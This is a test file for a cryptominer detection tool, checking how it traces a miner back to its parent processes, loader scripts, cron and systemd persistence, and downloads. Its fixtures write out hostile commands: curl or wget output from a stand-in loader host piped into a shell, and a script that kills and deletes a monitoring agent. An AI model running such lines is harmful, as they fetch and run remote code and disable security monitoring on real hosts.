import { describe, expect, it } from 'vitest';
import {
  infectedSnapshot,
  LOADER,
  labContext,
  POOL,
  pidsOf,
} from '../../../test/shared/infected-snapshot.ts';
import {
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  image,
  process,
  socket,
} from '../../../test/shared/snapshots.ts';
import type { Written } from '../../../test/shared/written.ts';
import { show } from '../../show.ts';
import type { Process, Snapshot } from '../../snapshot.ts';
import type { LinkedProcess } from '../index.ts';
import { judge } from '../index.ts';

const pid = pidsOf();
const linksOf = (snapshot: Snapshot, context = labContext) => judge(snapshot, context).links;
const byPid = (links: { processes: readonly LinkedProcess[] }, wanted: number) =>
  links.processes.find((one) => one.pid === wanted);

/** A confirmed miner at a path, with whatever else. */
function mined(
  path: string,
  more: Written<Partial<Snapshot>> = {},
  miner: Written<Partial<Process>> = {},
): Snapshot {
  const clean = cleanSnapshot();
  return cleanSnapshot({
    ...more,
    processes: [...clean.processes, process({ pid: 900, exe: path, ...miner }), ...(more.processes ?? [])],
    sockets: [...clean.sockets, socket([900], POOL, 3333), ...(more.sockets ?? [])],
    files: [elf(path, 'mining.subscribe mining.authorize'), ...(more.files ?? [])],
  });
}

describe('links of the procedure’s infection', () => {
  it('reach guard, loader, both spools and three files; the fetcher is covered by its loader', () => {
    const links = linksOf(infectedSnapshot());
    expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.guard, pid.loader]);
    expect(links.covered).toEqual([{ pid: pid.fetcher, by: pid.loader }]);
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/ddg.2021', '/tmp/i.sh', '/tmp/wnTKYg']);
    expect(links.cronLines.map((l) => `${l.path} ${l.number}`)).toEqual([
      '/var/spool/cron/crontabs/root 2',
      '/var/spool/cron/crontabs/root 3',
      '/var/spool/cron/root 2',
      '/var/spool/cron/root 3',
    ]);
    expect([...links.processes, ...links.files, ...links.cronLines].every((one) => one.selected)).toBe(true);
  });

  it('do not reach a guard that is no ancestor of the miner: that it names the miner is a word', () => {
    const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
    expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.loader]);
    expect(links.cronLines.every((one) => one.selected && !one.linked)).toBe(true);
  });

  it('each begin at the confirmed miner and add a sentence a hop', () => {
    const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
    for (const link of [...links.processes, ...links.files, ...links.cronLines, ...links.downloads]) {
      expect(link.why[0]).toMatch(/^wnTKYg \(pid 1000, \/tmp\/wnTKYg\) is a confirmed miner: /);
      expect(link.why.every((sentence) => sentence.endsWith('.'))).toBe(true);
      expect(link.kinds).toHaveLength(link.why.length);
    }
    expect(byPid(links, pid.loader)?.role).toBe('loader');
  });
});

describe('parents', () => {
  it('that start others for a living are never linked', () => {
    for (const exe of [
      '/usr/sbin/cron',
      '/usr/sbin/sshd',
      '/usr/lib/systemd/systemd',
      '/usr/bin/containerd-shim',
    ]) {
      const snapshot = mined('/opt/m/miner', { processes: [process({ pid: 899, exe })] }, { ppid: 899 });
      expect(byPid(linksOf(snapshot), 899)).toBeUndefined();
    }
  });

  it('that are a person’s shell or a packaged service are not linked', () => {
    const shell = process({ pid: 899, exe: '/usr/bin/bash', argv: ['-bash'], stdin: '/dev/pts/0' });
    const service = process({ pid: 899, exe: '/usr/sbin/nginx' });
    for (const parent of [shell, service]) {
      expect(byPid(linksOf(mined('/tmp/m', { processes: [parent] }, { ppid: 899 })), 899)).toBeUndefined();
    }
  });

  it('that bear no mark of their own are offered unticked and lead nowhere', () => {
    const parent = process({ pid: 899, exe: '/opt/tomcat/server' });
    const sibling = process({ pid: 901, ppid: 899, exe: '/opt/tomcat/job' });
    const links = linksOf(mined('/tmp/m', { processes: [parent, sibling] }, { ppid: 899 }));
    expect(byPid(links, 899)).toMatchObject({ selected: false, role: 'parent' });
    expect(byPid(links, 901)).toBeUndefined();
  });

  it('that serve nobody else are guards, in whatever folder; services are offered unticked', () => {
    const roleOf = (more: Written<Partial<Process>>, sockets: Snapshot['sockets'] = []) => {
      const parent = process({ pid: 899, exe: '/usr/local/games/upd', image: { package: null }, ...more });
      return byPid(linksOf(mined('/var/lib/nfsd/k', { processes: [parent], sockets }, { ppid: 899 })), 899);
    };
    expect(roleOf({})).toMatchObject({ selected: true, role: 'guard' });
    expect(roleOf({ cgroup: '/system.slice/runner.service' })).toMatchObject({ selected: false });
    for (const cgroup of [
      '/system.slice/docker-0123abcd.scope',
      '/docker/0123abcd',
      '/kubepods.slice/kubepods-burstable.slice/cri-containerd-0123.scope',
      '/kubepods/besteffort/pod1/0123',
      '/machine.slice/libpod-0123.scope',
      '/lxc.payload.web',
    ]) {
      expect(roleOf({ cgroup }), cgroup).toMatchObject({ selected: false, role: 'parent' });
    }
    const listening = socket([899], '0.0.0.0', 0, {
      state: 'LISTEN',
      local: { address: '0.0.0.0', port: 8080 },
    });
    expect(roleOf({}, [listening])).toMatchObject({ selected: false });
  });

  it('that read a pipe are loaders within a command, and somebody’s session under sshd', () => {
    const piped = (ppid: number) =>
      process({ pid: 899, ppid, exe: '/usr/bin/dash', argv: ['sh'], stdin: 'pipe:[9]', pipes: ['9'] });
    const command = process({ pid: 898, exe: '/usr/bin/dash', argv: ['sh', '-c', 'zcat /srv/x | sh'] });
    const session = process({ pid: 898, exe: '/usr/sbin/sshd', argv: ['sshd: root@notty'] });
    const of = (parent: Process) =>
      byPid(linksOf(mined('/opt/m/miner', { processes: [parent, piped(898)] }, { ppid: 899 })), 899);
    expect(of(command)).toMatchObject({ selected: true, role: 'loader' });
    expect(of(session)).toBeUndefined();
  });

  it('that run a command which starts the miner are linked through it', () => {
    const inline = process({
      pid: 899,
      exe: '/usr/bin/dash',
      argv: ['sh', '-c', 'nohup /opt/m/miner >/dev/null 2>&1'],
    });
    expect(byPid(linksOf(mined('/opt/m/miner', { processes: [inline] }, { ppid: 899 })), 899)?.selected).toBe(
      true,
    );
  });
});

describe('a miner that bears the name of a system program', () => {
  const named = (more: Written<Partial<Snapshot>> = {}) =>
    mined('/usr/local/sbin/sshd', more, {
      image: image('/usr/local/sbin/sshd', { package: null }),
      argv: ['/usr/local/sbin/sshd', '-o', `stratum+tcp://${POOL}:3333`],
    });
  it('has its file ticked where its own bytes show mining, else offered with a warning', () => {
    expect(linksOf(named()).files).toMatchObject([{ path: '/usr/local/sbin/sshd', selected: true }]);
    const packed = linksOf({ ...named(), files: [elf('/usr/local/sbin/sshd', 'UPX!')] });
    expect(packed.miners).toEqual([900]);
    expect(packed.files).toMatchObject([{ path: '/usr/local/sbin/sshd', selected: false }]);
    expect(packed.files[0]?.caution).toContain('Make sure');
  });
  it('has its file left to its package where one brought it', () => {
    const packaged = mined(
      '/usr/sbin/xmrig',
      {},
      { image: image('/usr/sbin/xmrig', { package: 'xmrig' }), cpuShare: 1 },
    );
    const links = linksOf(packaged);
    expect(links.processes).toMatchObject([{ pid: 900, selected: true }]);
    expect(links.files).toMatchObject([{ path: '/usr/sbin/xmrig', selected: false, linked: true }]);
  });
});

describe('children and pipes', () => {
  it('descendants of a linked process are covered by it, and programs of their own are targets', () => {
    const child = process({ pid: 901, ppid: 900, exe: '/usr/bin/sleep' });
    const grandchild = process({ pid: 902, ppid: 901, exe: '/usr/bin/sleep' });
    const own = process({ pid: 903, ppid: 902, exe: '/tmp/other' });
    const links = linksOf(mined('/tmp/m', { processes: [child, grandchild, own] }));
    expect(links.processes.map((p) => [p.pid, p.role])).toEqual([
      [900, 'miner'],
      [903, 'child'],
    ]);
    expect(links.covered).toEqual([
      { pid: 901, by: 900 },
      { pid: 902, by: 900 },
    ]);
  });

  it('a shell that reads the pipe of a linked fetcher is linked as reader', () => {
    const snapshot = infectedSnapshot();
    const processes = snapshot.processes.map((p) => (p.pid === pid.fetcher ? { ...p, pipes: ['77'] } : p));
    const reader = process({
      pid: 1500,
      exe: '/usr/bin/dash',
      argv: ['sh'],
      stdin: 'pipe:[77]',
      pipes: ['77'],
    });
    expect(byPid(linksOf({ ...snapshot, processes: [...processes, reader] }), 1500)?.role).toBe('reader');
  });

  it('who writes the log of the service that the miner came in through is not offered', () => {
    for (const exe of ['/usr/bin/tee', '/opt/apache/bin/rotatelogs', '/usr/bin/s6-log']) {
      const log = process({ pid: 901, exe, argv: [exe, '/srv/log'], stdin: 'pipe:[77]', pipes: ['77'] });
      const started = process({ pid: 902, ppid: 901, exe: '/usr/bin/gzip' });
      const links = linksOf(mined('/tmp/m', { processes: [log, started] }, { pipes: ['77'] }));
      expect(byPid(links, 901), exe).toBeUndefined();
      expect(byPid(links, 902)).toBeUndefined();
    }
  });

  it('an interpreter that reads its program from the pipe is ticked; one that runs a script is not', () => {
    const reader = (argv: string[]) =>
      process({ pid: 901, exe: '/usr/bin/python3.11', argv, stdin: 'pipe:[77]', pipes: ['77'] });
    const of = (argv: string[]) =>
      byPid(linksOf(mined('/tmp/m', { processes: [reader(argv)] }, { pipes: ['77'] })), 901);
    expect(of(['python3', '-'])).toMatchObject({ selected: true, role: 'reader' });
    expect(of(['python3', '/opt/logs/ship.py'])).toBeUndefined();
  });

  it('a standard input that both inherited links nothing', () => {
    const bystander = process({ pid: 901, exe: '/opt/app/x', stdin: 'pipe:[5]', pipes: ['5'] });
    const links = linksOf(mined('/tmp/m', { processes: [bystander] }, { stdin: 'pipe:[5]', pipes: ['5'] }));
    expect(byPid(links, 901)).toBeUndefined();
  });
});

describe('images', () => {
  it('the same file under another pid, and a copy elsewhere, are linked', () => {
    const again = process({ pid: 901, exe: '/tmp/m' });
    const copy = process({ pid: 902, exe: '/var/lib/x/m2', image: { sha256: hashOf('image /tmp/m') } });
    const links = linksOf(mined('/tmp/m', { processes: [again, copy] }));
    expect(links.processes.map((p) => p.pid)).toEqual([900, 901, 902]);
  });

  it('a hash that a packaged program shares links nothing', () => {
    const sha256 = hashOf('image /usr/bin/sleep');
    const shell = process({ pid: 901, exe: '/usr/bin/sleep', argv: ['sleep', '60'] });
    const other = process({ pid: 902, exe: '/opt/app/tool', image: { sha256 } });
    const snapshot = mined(
      '/tmp/m',
      { processes: [shell, other] },
      { image: process({ pid: 900, exe: '/tmp/m' }).image },
    );
    const copied = snapshot.processes.map((p) =>
      p.pid === 900 && p.image !== null ? { ...p, image: { ...p.image, sha256 } } : p,
    );
    expect(linksOf({ ...snapshot, processes: copied }).processes.map((p) => p.pid)).toEqual([900]);
  });

  it('lying in the same folder is no link', () => {
    const neighbour = process({ pid: 901, exe: '/tmp/x/other' });
    const links = linksOf(mined('/tmp/x/m', { processes: [neighbour], files: [elf('/tmp/x/other')] }));
    expect(links.processes.map((p) => p.pid)).toEqual([900]);
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/x/m']);
  });
});

describe('names', () => {
  it('a cron line that runs the miner is linked; one that only names it is not', () => {
    const cronFiles = [
      crontab('/var/spool/cron/crontabs/root', [
        '@reboot /opt/m/miner -q',
        '* * * * * test -x /opt/m/miner && logger found',
      ]),
    ];
    const links = linksOf(mined('/opt/m/miner', { cronFiles }));
    expect(links.cronLines).toMatchObject([{ number: 1, selected: true }]);
    expect(links.cronLines).toHaveLength(1);
  });

  it('a tool that names the miner is not linked, a script that starts it is, wherever it lies', () => {
    const files = [
      file('/opt/edr/rules.sh', '#!/bin/sh\nrm -f /opt/m/miner\n'),
      file('/tmp/.k/start', '#!/bin/sh\n/opt/m/miner &\n'),
      file('/srv/k/start', '#!/bin/sh\ncd /opt/m && nohup ./miner &\n'),
    ];
    const links = linksOf(mined('/opt/m/miner', { files }));
    expect(links.files.map((f) => [f.path, f.selected])).toEqual([
      ['/opt/m/miner', true],
      ['/srv/k/start', true],
      ['/tmp/.k/start', true],
    ]);
  });

  it('what a loader attacks is not linked by being named', () => {
    const agent = process({ pid: 901, exe: '/opt/cloudmonitor/agent' });
    const loader = file(
      '/tmp/i.sh',
      `#!/bin/sh\npkill -f /opt/cloudmonitor/agent\nrm -rf /opt/cloudmonitor/agent\ncurl http://${LOADER}:8443/a | sh\n/tmp/m\n`,
    );
    const links = linksOf(
      mined('/tmp/m', { processes: [agent], files: [loader, elf('/opt/cloudmonitor/agent')] }),
    );
    expect(byPid(links, 901)).toBeUndefined();
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/i.sh', '/tmp/m']);
  });

  it('a crontab that a loader writes to is no file to delete', () => {
    const links = linksOf({
      ...infectedSnapshot(),
      files: [...infectedSnapshot().files, file('/var/spool/cron/root', '* * * * * x\n')],
    });
    expect(links.files.some((f) => f.path === '/var/spool/cron/root')).toBe(false);
  });

  it.each(['/opt/m/miner', '/opt/à/miner', '/opt/m/a\u00a0b'])(
    'a unit that starts the miner is seen: %s',
    (path) => {
      const unit = {
        kind: 'systemd-unit' as const,
        path: '/etc/systemd/system/m.service',
        identity: elf('/x').identity,
        text: show(`[Service]\nExecStart=${path} -q\n`),
        sha256: null,
        truncated: false,
      };
      expect(linksOf(mined(path, { persistence: [unit] })).persistence.map((p) => p.path)).toEqual([
        unit.path,
      ]);
    },
  );
});

describe('downloads', () => {
  const line = (command: string) => [
    crontab('/var/spool/cron/crontabs/www-data', [`*/7 * * * * ${command}`]),
  ];
  const loader = file('/tmp/i.sh', `#!/bin/sh\ncurl http://${LOADER}:8443/a | sh\n/opt/m/miner &\n`);

  it('a fetch-and-run line of the same scheme, host and port is linked, whatever it is called there', () => {
    const links = linksOf(
      mined('/opt/m/miner', {
        files: [loader],
        cronFiles: line(`wget -qO- http://${LOADER}:8443/zz | bash`),
      }),
    );
    expect(links.cronLines).toMatchObject([{ selected: true }]);
  });

  it('another port, another scheme, or a fetch that runs nothing is not', () => {
    const other = (command: string) =>
      linksOf(mined('/opt/m/miner', { files: [loader], cronFiles: line(command) })).cronLines;
    expect(other(`wget -qO- http://${LOADER}/zz | bash`)).toMatchObject([{ linked: false, selected: true }]);
    expect(other(`wget -qO- https://${LOADER}:8443/zz | bash`)).toMatchObject([
      { linked: false, selected: false },
    ]);
    expect(
      linksOf(
        mined('/opt/m/miner', {
          files: [loader],
          cronFiles: line(`curl -fsS http://${LOADER}:8443/ping >/dev/null`),
        }),
      ).cronLines,
    ).toEqual([]);
  });

  it('hosting that many share links by the whole address only', () => {
    const script = file('/tmp/i.sh', '#!/bin/sh\ncurl https://pastebin.com/raw/abc | sh\n/opt/m/miner &\n');
    const of = (path: string) =>
      linksOf(
        mined('/opt/m/miner', {
          files: [script],
          cronFiles: line(`curl https://pastebin.com/raw/${path} | sh`),
        }),
      );
    expect(of('abc').cronLines).toMatchObject([{ selected: true }]);
    expect(of('other').cronLines).toMatchObject([{ selected: false }]);
  });

  it('the shell that cron started from a ticked line is ticked, and covers its children', () => {
    const command = `curl -fsSL http://${LOADER}:8443/i.sh | sh`;
    const processes = [
      process({ pid: 950, ppid: 300, exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', command] }),
      process({
        pid: 951,
        ppid: 950,
        exe: '/usr/bin/curl',
        argv: ['curl', '-fsSL', `http://${LOADER}:8443/i.sh`],
      }),
    ];
    const snapshot = infectedSnapshot();
    const links = linksOf({ ...snapshot, processes: [...snapshot.processes, ...processes] });
    expect(byPid(links, 950)?.role).toBe('loader');
    expect(links.covered).toContainEqual({ pid: 951, by: 950 });
  });

  it('a fetch-and-run line that nothing links is offered unticked, with the reason', () => {
    const links = linksOf(
      mined('/opt/m/miner', { cronFiles: line('curl -fsSL https://get.example/x | sh') }),
    );
    expect(links.cronLines).toMatchObject([{ selected: false }]);
    expect(links.cronLines[0]?.why.join(' ')).toContain('nothing links it');
  });
});

describe('known indicators', () => {
  it('link files by hash and unpackaged processes by address', () => {
    const guard = process({ pid: 901, exe: '/opt/g/guard' });
    const agent = process({ pid: 902, exe: '/usr/bin/curl', argv: ['curl', 'https://192.0.2.1/'] });
    const snapshot = mined('/opt/m/miner', {
      processes: [guard, agent],
      sockets: [socket([901], '203.0.113.50', 8443), socket([902], '192.0.2.1', 443)],
      files: [elf('/srv/drop')],
    });
    const hashes = { [hashOf('image /srv/drop')]: 'guard' };
    const addresses = [{ address: '203.0.113.50', port: 8443, what: 'ddg' }];
    const links = linksOf(snapshot, {
      ...labContext,
      indicators: { ...labContext.indicators, hashes, addresses },
    });
    expect(byPid(links, 901)?.why.at(-1)).toContain('known as ddg');
    expect(byPid(links, 902)).toBeUndefined();
    expect(links.files.map((f) => f.path)).toContain('/srv/drop');
  });
});

describe('content that is next to nothing', () => {
  const EMPTY = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
  const lock = '/tmp/.X11-lock';

  it.each([
    ['empty', '', EMPTY],
    ['of a few bytes', '900\n', hashOf('900\n')],
  ])('links no other file by its hash: %s', (_what, text, sha256) => {
    const named = file('/tmp/ddg.lock', text, { sha256 });
    const others = [lock, '/var/lib/app/ready'].map((path) => file(path, text, { sha256 }));
    const starter = file('/tmp/i.sh', '#!/bin/sh\n/tmp/m\n/tmp/ddg.lock\n');
    const running = process({ pid: 901, exe: '/usr/bin/dash', argv: ['sh', '/tmp/ddg.lock'] });
    const snapshot = mined('/tmp/m', { processes: [running], files: [starter, named, ...others] });
    const links = linksOf(snapshot);
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/i.sh', '/tmp/m']);
  });

  it('links no other process by its hash', () => {
    const script = (at: number, path: string, ppid: number) =>
      process({ pid: at, ppid, exe: '/usr/bin/dash', argv: ['sh', path] });
    const snapshot = mined('/tmp/m', {
      processes: [script(901, '/tmp/a', 900), script(902, '/srv/b', 1)],
      files: [file('/tmp/a', '', { sha256: EMPTY }), file('/srv/b', '', { sha256: EMPTY })],
    });
    expect(linksOf(snapshot).processes.map((p) => p.pid)).toEqual([900, 901]);
  });

  it('is no known hash, whatever a list says', () => {
    const hashes = { [EMPTY]: 'in somebody’s list', [hashOf('1\n')]: 'in another list' };
    const context = { ...labContext, indicators: { ...labContext.indicators, hashes } };
    const files = [file(lock, '', { sha256: EMPTY }), file('/tmp/flag', '1\n')];
    expect(judge(cleanSnapshot({ files }), context).verdict.verdict).toBe('not-a-miner');
    expect(linksOf(mined('/tmp/m', { files }), context).files.map((f) => f.path)).toEqual(['/tmp/m']);
  });
});
